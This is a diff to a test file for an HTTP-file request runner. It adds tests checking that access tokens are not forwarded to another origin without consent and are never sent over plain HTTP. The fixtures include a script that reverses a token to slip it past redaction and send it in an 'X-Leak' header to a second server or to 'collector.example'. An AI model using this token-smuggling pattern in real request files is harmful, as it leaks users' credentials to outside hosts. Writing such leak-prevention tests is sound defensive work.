@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createHttpClient } from '../../src/http/client.ts';
 import { parseHttpFile } from '../../src/httpfile/parse/parse.ts';
 import type { Dialect } from '../../src/httpfile/parse/tree.ts';
 import type { RunOptions } from '../../src/run/engine.ts';
@@ -88,10 +89,10 @@ function session(
     environment: new Map(Object.entries(environment)),
     options: { ...runOptions, ...options },
   };
-  const send = async (at = 0) => {
+  const send = async (at = 0, from = file.file) => {
     const node = tree.requests[at];
     if (node === undefined) throw new Error('no such request in the text');
-    return run.run(file, node);
+    return run.run({ ...file, file: from }, node);
   };
   return { send, logged, memory, redactor, run };
 }
@@ -452,6 +453,71 @@ describe('tokens and scripts', () => {
         ?.sources.map(({ name }) => name),
     ).toEqual(['login']);
     expect(redactor.mask(made)).not.toContain(made);
+  });
+
+  describe.each([
+    ['a header', 'request.headers.findByName("X-In").tryGetSubstitutedValue()', ''],
+    ['a variable of the file', 'client.variables.file.get("t")', ''],
+    ['a variable of the file with the name of a secret', 'client.variables.file.get("password")', ''],
+    ['a variable that an earlier script set', 'request.variables.get("v")', 'X-In'],
+  ])('a token of an answer that a script read from %s', (_what, read, set) => {
+    const made = Array.from(TOKEN).reverse().join('');
+    const text = (base: string, target: string) =>
+      [
+        '@t = {{login.response.body.$.access_token}}',
+        '@password = {{login.response.body.$.access_token}}',
+        '',
+        '# @name login',
+        `GET ${base}/login`,
+        '###',
+        ...(set === ''
+          ? []
+          : [
+              `< {% request.variables.set("v", request.headers.findByName("${set}").tryGetSubstitutedValue()) %}`,
+            ]),
+        `< {% client.global.set("h", ${read}.split("").reverse().join("")) %}`,
+        `GET ${base}/x`,
+        'X-In: {{login.response.body.$.access_token}}',
+        '###',
+        `GET ${target}/take`,
+        'X-Leak: {{h}}',
+      ].join('\n');
+
+    it('is asked about before another server gets it from another file', async () => {
+      const { base, received } = await server();
+      const other = await server();
+      const asked: string[] = [];
+      const { send } = session(text(base, other.base), {
+        setup: {
+          allowOrigin: ({ tokenName, origin }) => {
+            asked.push(`${tokenName} ${origin}`);
+            return Promise.resolve(asked.length === 1 ? 'refuse' : 'remember');
+          },
+        },
+      });
+      await send(0);
+      expect((await send(1)).result.error).toBeNull();
+      expect(received.map(({ url }) => url)).toEqual(['/login', '/x']);
+      const { result } = await send(2, '/w/b.http');
+      expect(result.error).toMatchObject({ code: 'origin_not_allowed' });
+      expect(other.received).toEqual([]);
+      await send(2, '/w/b.http');
+      expect(asked).toEqual([`login ${other.base}`, `login ${other.base}`]);
+      expect(other.received.map(({ headers }) => headers['x-leak'])).toEqual([made]);
+    });
+
+    it('is not sent over plain http', async () => {
+      const { base } = await server();
+      // It stands for every host but this computer.
+      const other = await server();
+      const proxy = { httpProxy: other.base, httpsProxy: null, noProxy: [] };
+      const client = createHttpClient({ proxy, caCertificates: [] });
+      const { send } = session(text(base, 'http://collector.example'), { setup: { client } });
+      await send(0);
+      await send(1);
+      expect((await send(2)).result.error).toMatchObject({ code: 'insecure_origin' });
+      expect(other.received).toEqual([]);
+    });
   });
 
   it('lets no script that saw a secret say where the request goes', async () => {
